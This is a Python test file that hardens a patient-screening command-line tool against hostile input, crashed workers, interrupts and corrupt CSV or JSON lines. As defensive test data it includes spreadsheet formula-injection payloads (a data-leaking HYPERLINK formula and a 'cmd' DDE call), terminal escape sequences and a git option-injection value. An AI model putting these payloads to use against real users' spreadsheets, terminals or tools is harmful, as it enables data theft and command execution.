"""Hostile and careless input, family by family (issue "Hardening"): no hang, no traceback, no
lost or clobbered data, no formula or escape sequence that acts on someone else's tool.

Batch runs here use two workers wherever a fault could live in a worker. Tests that need real
file descriptors (a closed or full standard output, a closed standard input, Ctrl-C) run the
installed command as a subprocess, each bounded by a timeout.
"""

from __future__ import annotations

import json
import os
import pickle
import select
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from tiers import a_few, examples
from typer.testing import CliRunner

from llr_asp.cli import app
from llr_asp.core import ruleset as ruleset_module
from llr_asp.core.errors import DeclarationError, InputError, RuleError, UsageError, WorkerError
from llr_asp.core.ruleset import RuleSet, default_rules_dir, load_rules
from llr_asp.engines import batch as batch_module
from llr_asp.engines.batch import LineError, iterate_decisions
from llr_asp.formats.readers import read_csv, read_jsonl

ROOT = Path(__file__).parent.parent
EXAMPLE = ROOT / "examples" / "route-c1-pain.json"
CLI = shutil.which("llr-asp") or str(Path(sys.executable).parent / "llr-asp")
runner = CliRunner()
ESC = "\x1b"


def run(*args: str, timeout: float = 60, **options: Any) -> subprocess.CompletedProcess[str]:
    """The installed command as a subprocess (real file descriptors), bounded in time."""
    return subprocess.run([CLI, *args], capture_output=True, text=True, timeout=timeout, **options)


def one_line_error(stderr: str) -> bool:
    return stderr.startswith("llr-asp: error: ") and stderr.count("\n") == 1 and "Traceback" not in stderr


# -- 1. batch never hangs: errors survive pickling, a dead worker stops the run --------------------


@pytest.mark.parametrize(
    "error",
    [
        InputError("a.jsonl:3", "pain.severity", "expected one of ..."),
        RuleError("rules/x.lp", 4, "syntax error"),
        DeclarationError("x.lp", 1, "first", (RuleError("x.lp", 1, "first"), RuleError("y.lp", 2, "second"))),
        UsageError("unknown policy"),
        WorkerError("a worker died"),
    ],
)
def test_every_error_type_survives_pickling(error: Exception) -> None:
    again = pickle.loads(pickle.dumps(error))
    assert type(again) is type(error) and str(again) == str(error)


def test_lines_that_fail_inside_a_worker_become_error_lines(tmp_path: Path) -> None:
    huge = b'{"id": "' + b"x" * (1 << 20) + b'"}\n'
    source = tmp_path / "cohort.jsonl"
    source.write_bytes(b'{"id": "a"}\n\xff\xfe not utf-8\n' + huge + b'{"id": "b"}\n')
    result = run("batch", str(source), "-p", "hip-resurfacing", "-j", "2", timeout=60)
    lines = [json.loads(line) for line in result.stdout.splitlines()]
    assert [line["line"] for line in lines] == [1, 2, 3, 4]
    assert "not UTF-8" in lines[1]["error"] and "over 1 MiB" in lines[2]["error"]
    assert result.returncode == 1


def _die(chunk: Any) -> Any:
    os._exit(1)  # a worker killed (out of memory, a crash in clingo)


def _fault(chunk: Any) -> Any:
    raise ZeroDivisionError("division by zero")


def test_a_dead_worker_stops_the_run_loudly(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(batch_module, "_screen_chunk", _die)
    with pytest.raises(WorkerError, match="worker process died"):
        list(iterate_decisions(['{"id": "a"}'] * 20, jobs=2))


def test_a_fault_in_a_worker_is_one_line_not_a_traceback(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(batch_module, "_screen_chunk", _fault)
    with pytest.raises(WorkerError, match="ZeroDivisionError"):
        list(iterate_decisions(['{"id": "a"}'] * 20, jobs=2))


line_kinds = st.one_of(
    st.builds(lambda s: json.dumps({"id": s, "sex": "male"}).encode(), st.text(max_size=30)),
    st.binary(max_size=40).filter(lambda b: b"\n" not in b),
    st.just(b"{broken"),
    st.just(b'{"pain": {"severity": "Severe"}}'),
    st.just(b'{"id": "\\ud800"}'),  # a lone surrogate
    st.just(b"\xef\xbb\xbf{}"),
    st.just(b'{"id": "' + b"x" * (1 << 20) + b'"}'),  # over 1 MiB
)


@pytest.mark.processes  # a pool of worker processes for each example
@settings(max_examples=examples(12), deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(line_kinds, min_size=1, max_size=30))
def test_any_lines_give_one_result_per_line_and_policy_in_order(lines: list[bytes]) -> None:
    numbered = read_jsonl(line + b"\n" for line in lines)
    signal.alarm(60)  # a hang fails the test instead of the suite
    try:
        results = list(iterate_decisions(numbered, policy="all", jobs=2))
    finally:
        signal.alarm(0)
    expected = [n for n in range(1, len(lines) + 1) for _ in ("hip", "knee")]
    got = [r.line for r in results for _ in ((0,) if not isinstance(r, LineError) else (0, 1))]
    assert got == expected
    for result in results:  # every result serialises to valid UTF-8 JSON
        json.dumps(result.to_json(), ensure_ascii=False).encode("utf-8", "backslashreplace")


@settings(max_examples=examples(40), deadline=None)
@given(st.lists(st.binary(max_size=30).filter(lambda b: b"\n" not in b), max_size=20))
def test_any_csv_rows_give_one_item_per_row(rows: list[bytes]) -> None:
    rules = RULES
    items = list(read_csv([b"id,sex,conservative.months\n", *(r + b"\n" for r in rows)], rules))
    assert [n for n, _ in items] == list(range(2, len(rows) + 2))


RULES = load_rules()


# -- 2. no lost or clobbered data --------------------------------------------------------------


def test_out_naming_the_input_is_refused_and_the_cohort_kept(tmp_path: Path) -> None:
    source = tmp_path / "cohort.jsonl"
    source.write_text('{"id": "a"}\n')
    result = runner.invoke(app, ["batch", str(source), "--out", str(source), "-j", "1"])
    assert result.exit_code == 2 and "is the input file" in result.stderr
    assert source.read_text() == '{"id": "a"}\n'
    out = tmp_path / "out.jsonl"
    result = runner.invoke(app, ["batch", str(source), "--out", str(out), "--summary-json", str(out)])
    assert result.exit_code == 2 and "is the --out file" in result.stderr and not out.exists()


def test_a_refused_run_leaves_the_old_output(tmp_path: Path) -> None:
    source = tmp_path / "cohort.csv"
    source.write_text("id,pain.sevrity\nx,mild\n")
    out = tmp_path / "decisions.jsonl"
    out.write_text("yesterday's results\n")
    result = runner.invoke(app, ["batch", str(source), "--out", str(out), "-j", "1"])
    assert result.exit_code == 2
    assert out.read_text() == "yesterday's results\n"
    assert not list(tmp_path.glob(".*.part"))  # no temporary file is left behind


def test_a_broken_quote_spoils_only_its_own_row(tmp_path: Path) -> None:
    rows = ['"p0,male,4'] + [f"p{n},male,{n % 12}" for n in range(1, 1000)]
    source = tmp_path / "cohort.csv"
    source.write_text("id,sex,conservative.months\n" + "\n".join(rows) + "\n")
    result = runner.invoke(app, ["batch", str(source), "-p", "hip-resurfacing", "-j", "2"])
    lines = [json.loads(line) for line in result.stdout.splitlines()]
    assert len(lines) == 1000 and [line["line"] for line in lines] == list(range(2, 1002))
    # the message after the row's place: the path itself holds "quote" (the test's name)
    assert lines[0]["error"] == f"{source}:2: not a row of CSV (a quote left open?)"
    assert all("decision" in line for line in lines[1:])
    assert result.exit_code == 1 and "1 bad line\n" in result.stderr


def test_a_cell_over_the_csv_size_limit_is_one_error_line(tmp_path: Path) -> None:
    source = tmp_path / "cohort.csv"
    source.write_text("id,sex\n" + "x" * 200_000 + ",male\nok,male\n")
    result = runner.invoke(app, ["batch", str(source), "-p", "hip-resurfacing", "-j", "1"])
    lines = [json.loads(line) for line in result.stdout.splitlines()]
    assert "error" in lines[0] and lines[1]["patient"] == "ok"


def test_a_repeated_csv_header_is_refused(tmp_path: Path) -> None:
    source = tmp_path / "cohort.csv"
    source.write_text("id,sex,sex\np,male,female\n")
    result = runner.invoke(app, ["batch", str(source), "-j", "1"])
    assert result.exit_code == 2 and "sex: appears twice" in result.stderr


def test_output_is_valid_utf8_whatever_the_ids(tmp_path: Path) -> None:
    source = tmp_path / "cohort.jsonl"
    source.write_bytes(b'\xef\xbb\xbf{"id": "bom"}\n{"id": "\\ud800"}\n{"id": "after"}\n')
    for out_format in ("jsonl", "csv"):
        out = tmp_path / f"out.{out_format}"
        result = runner.invoke(
            app, ["batch", str(source), "-p", "hip-resurfacing", "-f", out_format, "-o", str(out), "-j", "2"]
        )
        assert result.exit_code == 0, result.stderr
        text = out.read_bytes().decode("utf-8")  # strict: valid UTF-8
        assert "bom" in text and "after" in text
    lines = [json.loads(line) for line in (tmp_path / "out.jsonl").read_text().splitlines()]
    assert [line["patient"] for line in lines] == ["bom", "\ud800", "after"]


def test_jobs_are_capped_at_the_cores(tmp_path: Path) -> None:
    source = tmp_path / "cohort.jsonl"
    source.write_text('{"id": "a"}\n')
    result = runner.invoke(app, ["batch", str(source), "-j", "10000"])
    assert result.exit_code == 0
    assert f"using {batch_module.default_jobs()}" in result.stderr


def workers_of(pid: int) -> list[int]:
    """The child processes of `pid` (Linux)."""
    try:
        return [int(c) for c in Path(f"/proc/{pid}/task/{pid}/children").read_text().split()]
    except OSError:
        return []


def alive(pid: int) -> bool:
    try:
        return Path(f"/proc/{pid}/stat").read_text().split(") ")[1][0] not in "ZX"
    except OSError:
        return False


def _partial_batch(tmp_path: Path, **options: Any) -> tuple[subprocess.Popen[str], Path]:
    """`batch - -o out.jsonl -j 2` fed 3,000 lines through a pipe held open (so it cannot end
    before it is interrupted), once it has begun writing its results."""
    out = tmp_path / "out.jsonl"
    out.write_text("old\n")
    process = subprocess.Popen(
        [CLI, "batch", "-", "-o", str(out), "-j", "2"],
        stdin=subprocess.PIPE,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        text=True,
        **options,
    )
    assert process.stdin is not None
    for n in range(3000):  # 6 chunks: past those held pending, so results are written
        process.stdin.write(json.dumps({"id": f"p{n}", "conservative": {"months": n % 1000}}) + "\n")
    process.stdin.flush()
    deadline = time.monotonic() + 120
    while not any(p.stat().st_size for p in tmp_path.glob(".out.jsonl.*.part")):
        assert process.poll() is None and time.monotonic() < deadline, "batch wrote nothing"
        time.sleep(0.05)
    return process, out


@pytest.mark.processes
@pytest.mark.skipif(not Path("/proc/self/task").is_dir(), reason="reads child processes from /proc")
@pytest.mark.parametrize(("presses", "again"), [(1, 0), (3, 0), (1, 3)])
def test_ctrl_c_stops_promptly_with_exit_130_and_leaves_the_old_output(
    tmp_path: Path, presses: int, again: int
) -> None:
    """Independent of timing: the cohort comes through a pipe held open, so the run cannot end
    before Ctrl-C. It is pressed once results are being written, once or several times in a row
    (a press lands while the one before is handled), and `again` times once the run has said it
    is interrupted (while it stops its workers and the threads that feed them). Whatever the
    state: one line, exit 130, the old output kept, no worker left running."""
    process, out = _partial_batch(tmp_path)
    workers = workers_of(process.pid)
    assert workers
    for _ in range(presses):
        process.send_signal(signal.SIGINT)
    assert process.stderr is not None
    assert select.select([process.stderr], [], [], 30)[0], "no line on stderr 30 s after Ctrl-C"
    said = process.stderr.readline()
    for _ in range(again):
        process.send_signal(signal.SIGINT)
        time.sleep(0.02)
    try:
        _, rest = process.communicate(timeout=30)
    finally:
        process.kill()
    stderr = said + rest
    assert process.returncode == 130, stderr
    assert stderr == "llr-asp: interrupted; the --out file, if any, is left as it was\n"
    assert out.read_text() == "old\n" and not list(tmp_path.glob(".out.jsonl.*"))
    deadline = time.monotonic() + 10
    while any(alive(w) for w in workers) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert not any(alive(w) for w in workers), "a worker outlived the run"


@pytest.mark.processes
def test_workers_end_when_the_main_process_is_killed(tmp_path: Path) -> None:
    """Killed outright (SIGKILL: no handler runs), the main process leaves no worker computing."""
    process = subprocess.Popen(
        [CLI, "batch", "-", "-j", "2"],
        stdin=subprocess.PIPE,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
    )
    assert process.stdin is not None
    process.stdin.write(b'{"id": "a"}\n' * 3000)
    process.stdin.flush()
    deadline = time.monotonic() + 120
    while len(workers_of(process.pid)) < 2:
        assert process.poll() is None and time.monotonic() < deadline, "no workers started"
        time.sleep(0.05)
    workers = workers_of(process.pid)
    process.kill()
    process.wait(timeout=30)
    deadline = time.monotonic() + 10
    while any(alive(w) for w in workers) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert not any(alive(w) for w in workers), "a worker was left as an orphan"


# -- 3. no formula reaches a spreadsheet ---------------------------------------------------------


@pytest.mark.parametrize(
    "name", ['=HYPERLINK("http://x"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\r=1+1"]
)
def test_csv_cells_are_never_formulas(tmp_path: Path, name: str) -> None:
    source = tmp_path / "cohort.jsonl"
    source.write_text(json.dumps({"id": name}) + "\n")
    result = runner.invoke(app, ["batch", str(source), "-p", "hip-resurfacing", "-f", "csv", "-j", "1"])
    import csv
    import io

    [_, row] = list(csv.reader(io.StringIO(result.stdout)))
    assert row[1] == "'" + name


# -- 4. escape sequences are shown, never sent to the terminal -----------------------------------


def test_an_escape_sequence_in_a_policy_argument_is_shown() -> None:
    result = runner.invoke(app, ["explain", str(EXAMPLE), "-p", f"{ESC}]0;pwned\x07{ESC}[2J"])
    assert result.exit_code == 2 and ESC not in result.stderr and "\\x1b" in result.stderr


def test_an_escape_sequence_in_a_rule_title_is_shown(tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    shutil.copytree(default_rules_dir(), rules)
    hip = rules / "hip_resurfacing.lp"
    hip.write_text(hip.read_text().replace('"Policy for Hip Resurfacing"', f'"Hip{ESC}[2J{ESC}]0;pwned\x07"'))
    loaded = load_rules(rules)
    assert ESC not in loaded.policies["hip-resurfacing"].title
    result = runner.invoke(app, ["policies", "--rules", str(rules)])
    assert result.exit_code == 0 and ESC not in result.stdout


def test_an_escape_sequence_in_a_piped_answer_is_shown() -> None:
    result = run("ask", "-p", "hip-resurfacing", input=f"male\n{ESC}]0;pwned\x07{ESC}[2J\n")
    assert ESC not in result.stderr.replace(ESC + "[", "")  # Rich's own styles aside: none here
    assert "\\x1b" in result.stderr


def test_a_runaway_answer_is_not_echoed_whole() -> None:
    result = run("ask", "-p", "hip-resurfacing", input="male\n" + "y" * 100_000 + "\n")
    assert len(result.stderr) < 5_000 and "100,000 characters" in result.stderr


# -- 5. the output side: closed or full standard output, closed standard input ---------------------

COMMANDS = [
    ["explain", str(EXAMPLE)],
    ["explain", str(EXAMPLE), "-f", "json"],
    ["explain", str(EXAMPLE), "-f", "markdown", "-p", "hip-resurfacing"],
    ["whatif", str(EXAMPLE)],
    ["next", str(EXAMPLE)],
    ["analyze", "-p", "hip-resurfacing"],
    ["schema"],
    ["batch", str(EXAMPLE), "-j", "1"],
    ["policies"],
    ["diff", "hip-resurfacing", "knee-resurfacing", "-f", "json"],
    ["check", "-f", "json"],
]


@pytest.mark.parametrize(
    "command", a_few(COMMANDS, 3, pytest.mark.processes, ids=lambda c: " ".join(a for a in c if "/" not in a))
)
def test_closed_or_full_stdout_is_one_line_and_a_failure(command: list[str]) -> None:
    result = subprocess.run(  # standard output closed: `llr-asp ... >&-`
        [CLI, *command], stderr=subprocess.PIPE, text=True, timeout=60, preexec_fn=lambda: os.close(1)
    )
    assert result.returncode == 1 and one_line_error(result.stderr), result.stderr
    with open("/dev/full", "w") as full:
        result = subprocess.run([CLI, *command], stdout=full, stderr=subprocess.PIPE, text=True, timeout=60)
    assert result.returncode == 1 and one_line_error(result.stderr), result.stderr


@pytest.mark.parametrize("command", [["explain", "-"], ["batch", "-"], ["ask", "-p", "hip-resurfacing"]])
def test_closed_stdin_is_one_line(command: list[str]) -> None:
    """Also `ask`, whose result goes to standard output: without input it cannot ask."""
    result = subprocess.run(
        [CLI, *command], capture_output=True, text=True, timeout=60, preexec_fn=lambda: os.close(0)
    )
    assert result.returncode == 2 and one_line_error(result.stderr), result.stderr


@pytest.mark.parametrize("columns", ["0", "2"])
def test_narrow_columns_still_print_the_tree(columns: str) -> None:
    result = run("explain", str(EXAMPLE), "-p", "hip-resurfacing", env={**os.environ, "COLUMNS": columns})
    assert result.returncode == 0 and "✔ C1" in result.stdout


def test_an_ascii_only_stdout_degrades_to_escapes() -> None:
    result = run(
        "explain", str(EXAMPLE), "-p", "hip-resurfacing", env={**os.environ, "PYTHONIOENCODING": "ascii"}
    )
    assert result.returncode == 0 and "\\u2714" in result.stdout and "Traceback" not in result.stderr


# -- 6. ask validates what it reads and writes only regular files ---------------------------------


@pytest.mark.parametrize("record", ["[1, 2]", '{"policy": ["hip-resurfacing"]}', '"text"'])
def test_ask_from_a_document_that_is_not_a_record(tmp_path: Path, record: str) -> None:
    start = tmp_path / "start.json"
    start.write_text(record)
    result = runner.invoke(app, ["ask", "--from", str(start)], input="")
    assert result.exit_code == 2 and one_line_error(result.stderr), result.stderr


@pytest.mark.parametrize("target", ["directory", "/dev/null"])
def test_ask_saves_only_to_a_regular_file(tmp_path: Path, target: str) -> None:
    save = tmp_path if target == "directory" else Path(target)
    result = runner.invoke(app, ["ask", "-p", "hip-resurfacing", "--save", str(save)], input="male\n")
    assert result.exit_code == 2 and "--save" in result.stderr
    assert Path("/dev/null").is_char_device()


# -- 7. rules and check --------------------------------------------------------------------------


def copy_rules(tmp_path: Path) -> Path:
    target = tmp_path / "rules"
    shutil.copytree(default_rules_dir(), target)
    return target


@pytest.mark.whole
def test_runaway_grounding_is_stopped_and_named(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(ruleset_module, "GROUNDING_MEMORY", 64 << 20)  # the test need not wait for 1 GiB
    rules = copy_rules(tmp_path)
    (rules / "loop.lp").write_text("p(X+1) :- p(X). p(0).\n")
    with pytest.raises(RuleError, match="without end") as caught:
        load_rules(rules)
    assert str(rules) in str(caught.value)


@pytest.mark.parametrize("case", ["a directory named x.lp", "one empty file"])
def test_odd_rule_directories_are_clear(tmp_path: Path, case: str) -> None:
    if case == "one empty file":
        rules = tmp_path / "rules"
        rules.mkdir()
        (rules / "empty.lp").write_text("")
        result = runner.invoke(app, ["explain", str(EXAMPLE), "--rules", str(rules)])
        assert result.exit_code == 2 and "declare no policy" in result.stderr
    else:
        rules = copy_rules(tmp_path)
        (rules / "x.lp").mkdir()
        assert isinstance(load_rules(rules), RuleSet)


def check_project(tmp_path: Path) -> tuple[Path, Path]:
    rules = copy_rules(tmp_path)
    examples = tmp_path / "examples"
    shutil.copytree(ROOT / "examples", examples)
    return rules, examples


@pytest.mark.whole
def test_check_reads_an_example_with_a_bom_and_refuses_a_malformed_expectation(tmp_path: Path) -> None:
    rules, examples = check_project(tmp_path)
    bom = examples / "route-c1-pain.json"
    bom.write_bytes(b"\xef\xbb\xbf" + bom.read_bytes())
    bad = examples / "route-c2-instability.json"
    document = json.loads(bad.read_text())
    document["meta"]["expected"]["hip-resurfacing"]["met"] = 5
    bad.write_text(json.dumps(document))
    result = runner.invoke(app, ["check", "--rules", str(rules), "--examples", str(examples), "-f", "json"])
    assert result.exit_code == 1
    failures = [f["message"] for f in json.loads(result.stdout)["failures"]]
    assert "meta.expected.hip-resurfacing.met: expected a list of strings, got 5" in failures
    assert not any("route-c1-pain" in f for f in failures)  # the BOM is no failure


@pytest.mark.whole
def test_update_baseline_into_a_missing_folder_is_one_line(tmp_path: Path) -> None:
    result = runner.invoke(app, ["check", "--update-baseline", "--baseline", str(tmp_path / "no" / "b.json")])
    assert result.exit_code == 2 and one_line_error(result.stderr), result.stderr


# -- 8. diff --against-git never passes an option to git ------------------------------------------


def test_a_revision_that_looks_like_an_option_is_refused(tmp_path: Path) -> None:
    target = tmp_path / "clobbered"
    result = runner.invoke(app, ["diff", "hip-resurfacing", f"--against-git=--output={target}"])
    assert result.exit_code == 2 and "not a git revision" in result.stderr and not target.exists()


# -- 9. messages name the whole path and explain nesting ---------------------------------------------


def test_a_repeated_key_is_named_by_its_whole_path(tmp_path: Path) -> None:
    record = tmp_path / "p.json"
    record.write_text('{"msk": {"assessed": true, "assessed": false}}')
    result = runner.invoke(app, ["explain", str(record)])
    assert (
        result.stderr
        == f"llr-asp: error: {record}: msk.assessed: key appears twice in the same object; keep one\n"
    )


def test_a_dotted_key_is_told_that_fields_nest(tmp_path: Path) -> None:
    record = tmp_path / "p.json"
    record.write_text('{"pain.severity": "mild"}')
    result = runner.invoke(app, ["explain", str(record)])
    assert 'fields nest: write {"pain": {"severity": …}}' in result.stderr


# -- issue 28: hardening at the edges ----------------------------------------------------------


@pytest.mark.processes
@pytest.mark.skipif(not hasattr(os, "killpg"), reason="process groups are POSIX")
def test_ctrl_c_at_a_terminal_reaches_every_process_and_still_ends_in_one_line(tmp_path: Path) -> None:
    """A terminal sends Ctrl-C to the whole foreground process group: the workers get it too.
    One line, exit 130, the old output kept, no temporary file left (bug: workers that do not
    leave Ctrl-C to the main process each print a KeyboardInterrupt traceback)."""
    process, out = _partial_batch(tmp_path, start_new_session=True)  # its own group, as a job is
    try:
        os.killpg(process.pid, signal.SIGINT)
        _, stderr = process.communicate(timeout=60)
    finally:
        process.kill()
    assert process.returncode == 130, stderr
    assert "Traceback" not in stderr and "KeyboardInterrupt" not in stderr
    assert len(stderr.strip().splitlines()) == 1 and "interrupted" in stderr
    assert out.read_text() == "old\n" and not list(tmp_path.glob(".out.jsonl.*"))


@pytest.mark.processes
@pytest.mark.skipif(not Path("/proc/self/task").is_dir(), reason="reads child processes from /proc")
def test_ctrl_c_that_reaches_only_the_workers_changes_nothing(tmp_path: Path) -> None:
    """The workers' part of a terminal's Ctrl-C on its own, so that no race with the main
    process's hides it: a worker leaves Ctrl-C to the main process, which was not interrupted,
    so the run goes on to the end (bug: a worker raised KeyboardInterrupt, died with a traceback
    and the run stopped on a broken pool)."""
    process, out = _partial_batch(tmp_path)
    workers = workers_of(process.pid)
    assert workers
    for worker in workers:
        os.kill(worker, signal.SIGINT)
    time.sleep(0.5)  # the signal is handled (or ignored) meanwhile
    try:
        _, stderr = process.communicate(timeout=120)  # stdin closed: the cohort ends
    finally:
        process.kill()
    assert process.returncode == 0, stderr
    assert "Traceback" not in stderr and "KeyboardInterrupt" not in stderr
    assert len(out.read_text().splitlines()) == 3000 * 2  # every line, under both policies


@pytest.mark.parametrize("failure", [KeyboardInterrupt, RuntimeError, SystemExit])
def test_a_write_cut_short_leaves_the_old_file_and_no_temporary_file(tmp_path: Path, failure: type) -> None:
    """Interrupted (Ctrl-C), failed or exited mid-write: the file is as it was and nothing else is
    in its folder (bug: the temporary file left behind, a `.out.jsonl.XXXX.part` per run)."""
    from llr_asp.core.files import replaced

    target = tmp_path / "out.jsonl"
    target.write_text("old\n")
    with pytest.raises(failure), replaced(target, "--out") as stream:
        stream.write("new, half written\n")
        raise failure()
    assert target.read_text() == "old\n" and [p.name for p in tmp_path.iterdir()] == ["out.jsonl"]
    with replaced(target, "--out") as stream:  # the other side: a whole write replaces it
        stream.write("new\n")
    assert target.read_text() == "new\n" and [p.name for p in tmp_path.iterdir()] == ["out.jsonl"]


def test_a_line_of_exactly_the_limit_is_read_and_one_byte_more_is_an_error_line(tmp_path: Path) -> None:
    """A line (its newline included) of 1 MiB is a record; one byte longer is an error line, and
    the run goes on (bug: `>=`, so a record of exactly the limit was refused)."""
    from llr_asp.core.patient import MAX_BYTES

    def line(size: int, name: str) -> bytes:
        head = json.dumps({"id": name, "sex": "male", "meta": {"note": ""}}).encode()
        return head[:-3] + b"x" * (size - len(head) - 1) + head[-3:] + b"\n"

    cohort = tmp_path / "cohort.jsonl"
    cohort.write_bytes(line(MAX_BYTES, "at") + line(MAX_BYTES + 1, "over") + line(200, "after"))
    assert [len(x) + 1 for x in cohort.read_bytes().split(b"\n")[:2]] == [MAX_BYTES, MAX_BYTES + 1]
    result = runner.invoke(app, ["batch", str(cohort), "-p", "hip-resurfacing", "-j", "1"])
    lines = [json.loads(x) for x in result.stdout.splitlines()]
    assert [x.get("patient") for x in lines] == ["at", None, "after"] and lines[0][
        "decision"
    ] == "undetermined"
    assert lines[1]["line"] == 2 and lines[1]["error"].endswith(
        "line is over 1 MiB, far larger than a patient record"
    )
    assert result.exit_code == 1


def test_a_csv_saved_by_excel_with_a_byte_order_mark_is_read(tmp_path: Path) -> None:
    """Excel's "CSV UTF-8" begins with a byte order mark (bug: not dropped, so the first header
    was "\\ufeffid", not a field, and the whole file refused)."""
    cohort = tmp_path / "cohort.csv"
    cohort.write_bytes(b"\xef\xbb\xbfid,sex,conservative.months\r\nw,female,8\r\nm,male,2\r\n")
    result = runner.invoke(app, ["batch", str(cohort), "-p", "hip-resurfacing", "-j", "1"])
    assert result.exit_code == 0, result.stderr
    lines = [json.loads(x) for x in result.stdout.splitlines()]
    assert [(x["line"], x["patient"], x["decision"]) for x in lines] == [
        (2, "w", "not_eligible"),
        (3, "m", "not_eligible"),
    ]
    assert "B" in lines[1]["failed"] and "B" not in lines[0]["failed"]  # the months were read as numbers


@pytest.mark.parametrize(
    "cell", ["NaN", "nan", "Infinity", "-Infinity", "1_000", "0x10", "6 months", "1e999"]
)
def test_a_number_cell_that_is_no_number_is_an_error_line_and_the_run_goes_on(
    tmp_path: Path, cell: str
) -> None:
    """Cells a spreadsheet or pandas writes (NaN, inf) or Python alone reads as numbers (1_000,
    0x10 with int(x, 0)): each an error line naming its row and the field, the rows around it
    decided (bugs: NaN passed validation and stopped the whole run; a cell read with Python's
    float or int instead of as a JSON number)."""
    cohort = tmp_path / "cohort.csv"
    cohort.write_text(f"id,sex,conservative.months\nbefore,male,8\nodd,male,{cell}\nafter,male,2\n")
    result = runner.invoke(app, ["batch", str(cohort), "-p", "hip-resurfacing", "-j", "1"])
    lines = [json.loads(x) for x in result.stdout.splitlines()]
    assert [x["line"] for x in lines] == [2, 3, 4] and result.exit_code == 1
    assert lines[0]["patient"] == "before" and lines[2]["patient"] == "after"
    assert "error" in lines[1] and "decision" not in lines[1]
    assert f"{cohort}:3: conservative.months: " in lines[1]["error"]
